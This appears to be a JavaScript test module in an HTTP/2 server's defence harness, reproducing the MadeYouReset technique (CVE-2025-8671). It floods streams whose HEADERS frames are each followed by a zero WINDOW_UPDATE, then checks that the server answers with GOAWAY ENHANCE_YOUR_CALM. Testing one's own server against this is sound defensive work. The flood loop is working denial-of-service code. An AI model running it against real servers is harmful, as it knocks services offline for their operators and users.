// MadeYouReset: the server is made to reset streams itself, by WINDOW_UPDATE of 0.

import { Flag, Type, toFrame, toStreamId, toWindowUpdate } from "../wire/frames.mjs";
import { POST, toRequest } from "../wire/hpack.mjs";

const request = toRequest("/livez", { method: POST });

/** @type {import("../target.mjs").Attack} */
export const attack = {
  reference: "CVE-2025-8671",
  does: "opens streams and makes the server reset them by WINDOW_UPDATE of 0",
  limit: "resetsBurstMax, resetsPerSecondMax",
  meets: "GOAWAY ENHANCE_YOUR_CALM",
  counter: 'subito_http2_connection_errors_total{fault="too_many_resets"}',
  memoryMb: 64,
  async run(target) {
    const peer = await target.connectHttp2();
    await peer.flood((n) =>
      Buffer.concat([
        toFrame(Type.HEADERS, Flag.END_HEADERS, toStreamId(n), request),
        toWindowUpdate(toStreamId(n), 0),
      ]),
    );
    return [await target.patiently(peer.ended)];
  },
};
